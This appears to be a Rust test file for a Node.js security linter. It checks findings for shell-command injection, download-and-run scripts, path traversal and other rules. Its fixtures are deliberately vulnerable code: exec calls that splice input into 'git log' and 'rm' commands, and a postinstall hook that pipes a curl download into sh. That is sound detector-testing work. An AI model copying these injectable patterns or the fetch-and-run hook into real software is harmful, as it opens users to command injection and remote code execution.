use nodeward_testkit::Project;

use crate::harness::World;

const SHELL: &str = "const { exec } = require('child_process');\nexports.log = (branch, done) => {\n  exec(`git log ${branch}`, done);\n};\n";

fn lint(world: &World, project: &Project, more: &[&str]) -> crate::harness::Ran {
    let mut arguments = vec!["lint"];
    arguments.extend(more);
    world.run(&arguments, project.path())
}

fn json(world: &World, project: &Project, more: &[&str]) -> serde_json::Value {
    let mut arguments = vec!["--format", "json", "--only", "shell-command"];
    arguments.extend(more);
    let ran = lint(world, project, &arguments);
    serde_json::from_str(&ran.out).unwrap_or_else(|error| panic!("{error}: {}{}", ran.out, ran.err))
}

#[test]
fn text_shows_the_line_and_json_its_place() {
    let world = World::new();
    let project = Project::empty().file("lib/a.js", SHELL);
    let ran = lint(&world, &project, &["--only", "shell-command"]).expect(1);
    assert!(ran.out.contains("lib/a.js:3:8"), "{}", ran.out);
    assert!(
        ran.out.contains("exec(`git log ${branch}`, done);\n                 ^^^^^^^^^^^^^^^^^^^"),
        "{}",
        ran.out
    );
    assert!(ran.out.lines().all(|line| line.chars().count() <= 80), "{}", ran.out);
    let report = json(&world, &project, &[]);
    let finding = &report["findings"][0];
    assert_eq!(finding["id"], "shell-command");
    assert_eq!((&finding["place"]["line"], &finding["place"]["column"]), (&3.into(), &8.into()));
    assert_eq!(finding["excerpt"]["meant"], "`git log ${branch}`");
    assert_eq!(report["exitCode"], 1);
}

#[test]
fn sarif_has_the_region() {
    let world = World::new();
    let project = Project::empty().file("a.js", SHELL);
    let ran = lint(&world, &project, &["--only", "shell-command", "--format", "sarif"]).expect(1);
    let log: serde_json::Value = serde_json::from_str(&ran.out).unwrap();
    let region = &log["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["region"];
    assert_eq!(
        (&region["startLine"], &region["startColumn"], &region["endColumn"]),
        (&3.into(), &8.into(), &27.into())
    );
}

#[test]
fn exit_codes() {
    let world = World::new();
    let clean = Project::empty().file("a.js", "let a = 1;\n");
    lint(&world, &clean, &[]).expect(0);
    let broken = Project::empty().file("a.js", "let = = 1;\n");
    lint(&world, &broken, &[]).expect(2);
    lint(&world, &broken, &["--allow-unchecked", "--fail-on", "critical"]).expect(0);
    let ran = lint(&world, &clean, &["--only", "shel-command"]).expect(2);
    assert!(ran.err.contains("did you mean shell-command?"), "{}", ran.err);
    lint(&world, &clean, &["absent"]).expect(2);
    lint(&world, &clean, &["--since", "main"]).expect(2);
}

#[test]
#[cfg(unix)]
fn a_dependency_is_not_git() {
    use std::os::unix::fs::PermissionsExt as _;
    let world = World::new();
    let project = Project::empty().file("a.js", "").file("node_modules/.bin/git", "#!/bin/sh\n: > ran\n");
    let git = project.join("node_modules/.bin/git");
    std::fs::set_permissions(&git, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut command = world.command(&["lint", "--since", "main"], project.path());
    let ran = crate::harness::Ran::of(command.env("PATH", git.parent().unwrap()).output().unwrap()).expect(2);
    assert!(ran.err.contains("git is on the PATH only as"), "{}", ran.err);
    assert!(!project.join("ran").exists());
}

#[test]
fn rules_explain_themselves() {
    let world = World::new();
    let project = Project::empty();
    let ran = lint(&world, &project, &["--explain", "shell-command"]).expect(0);
    assert!(ran.out.contains("HOW TO FIX") && ran.out.contains("CWE-78"), "{}", ran.out);
    let ran = lint(&world, &project, &["--list"]).expect(0);
    assert!(ran.out.contains("shell-command"), "{}", ran.out);
}

#[test]
fn the_policy_can_be_configured_and_a_suppression_hides() {
    let world = World::new();
    let config = "[lint]\npolicy = \"experimental\"\n";
    let project = Project::empty().file("a.js", SHELL).file("nodeward.toml", config);
    lint(&world, &project, &[]).expect(1);
    lint(&world, &project, &["--policy", "common"]).expect(0);
    let hidden = format!("{config}\n[[suppress]]\nid = \"shell-command\"\nreason = \"ours\"\n");
    let project = project.file("nodeward.toml", hidden);
    assert_eq!(json(&world, &project, &[])["summary"]["suppressed"], 1);
}

#[test]
fn a_baseline_hides_what_was_there_though_lines_move() {
    let world = World::new();
    let project = Project::empty().file("a.js", SHELL);
    lint(&world, &project, &["--only", "shell-command", "--baseline", "b.json", "--write-baseline"])
        .expect(0);
    let project = project.file("a.js", format!("\n\n{SHELL}"));
    assert_eq!(json(&world, &project, &["--baseline", "b.json"])["findings"].as_array().unwrap().len(), 0);
    let project = project.file("a.js", format!("{SHELL}exports.rm = (f) => exec('rm ' + f);\n"));
    lint(&world, &project, &["--only", "shell-command", "--baseline", "b.json"]).expect(1);
    let project = project.file("a.js", "");
    let ran = lint(&world, &project, &["--only", "shell-command", "--baseline", "b.json"]).expect(0);
    assert!(ran.err.contains("is gone"), "{}", ran.err);
}

#[test]
fn a_fix_is_made_and_only_where_it_is_asked_for() {
    let world = World::new();
    let project = Project::empty().file("a.js", "exports.a = (x) => new Buffer(x);\n");
    let arguments = ["--only", "buffer-constructor", "--fail-on", "critical"];
    lint(&world, &project, &arguments).expect(0);
    assert!(project.read("a.js").contains("new Buffer("));
    let ran = lint(&world, &project, &[&arguments[..], &["--fix-unsafe"]].concat()).expect(0);
    assert!(project.read("a.js").contains("Buffer.from(x)"), "{}{}", ran.err, project.read("a.js"));
}

#[test]
fn a_manifest_is_read_for_its_scripts_and_for_who_calls() {
    let world = World::new();
    let scripts = r#"{"scripts":{"postinstall":"curl -s https://get.example.org/x | sh"}}"#;
    let project = Project::empty().file("package.json", scripts);
    let report = json(&world, &project, &["--only", "download-and-run"]);
    assert_eq!(report["findings"][0]["id"], "download-and-run");
    // What callers pass counts where the package is there to be called.
    let code = "module.exports = (name, done) => require('fs').readFile('pages/' + name, done);\n";
    for (manifest, found) in
        [(r#"{"name":"a","main":"a.js"}"#, 1), (r#"{"name":"a","main":"a.js","private":true}"#, 0)]
    {
        let project = Project::empty().file("package.json", manifest).file("a.js", code);
        let report = json(&world, &project, &["--only", "path-traversal"]);
        assert_eq!(report["findings"].as_array().unwrap().len(), found, "{manifest}");
    }
}

#[cfg(unix)]
#[test]
fn nothing_outside_is_read() {
    let world = World::new();
    let outside = Project::empty().file("a.js", SHELL);
    let project = Project::empty().file("b.js", "");
    std::os::unix::fs::symlink(outside.path(), project.join("link")).unwrap();
    std::os::unix::fs::symlink(outside.join("a.js"), project.join("c.js")).unwrap();
    assert_eq!(json(&world, &project, &[])["coverage"]["sources"]["files"], 1);
}

#[test]
fn a_second_run_says_the_same_with_and_without_what_was_kept() {
    let world = World::new();
    let project = Project::empty()
        .file("a.js", SHELL)
        .file("b.js", "// nodeward-ignore buffer-constructor: old\nexports.b = new Buffer('é');\n")
        .file("broken.js", "let = = 1;\n");
    let arguments = ["--policy", "experimental", "--format", "json"];
    let run = |more: &[&str]| lint(&world, &project, &[&arguments[..], more].concat()).expect(1).out;
    let kept = world.home.path().join("cache/lint");
    let fresh = run(&["--no-cache"]);
    assert!(!kept.exists(), "--no-cache keeps nothing");
    assert_eq!(run(&[]), fresh);
    assert!(kept.is_dir());
    assert_eq!(run(&[]), fresh);
    // What cannot be used is passed over.
    for folder in std::fs::read_dir(&kept).unwrap() {
        for entry in std::fs::read_dir(folder.unwrap().path()).unwrap() {
            std::fs::write(entry.unwrap().path(), "{}").unwrap();
        }
    }
    assert_eq!(run(&[]), fresh);
    std::fs::remove_dir_all(&kept).unwrap();
    std::fs::write(&kept, "no folder").unwrap();
    assert_eq!(run(&[]), fresh);
}
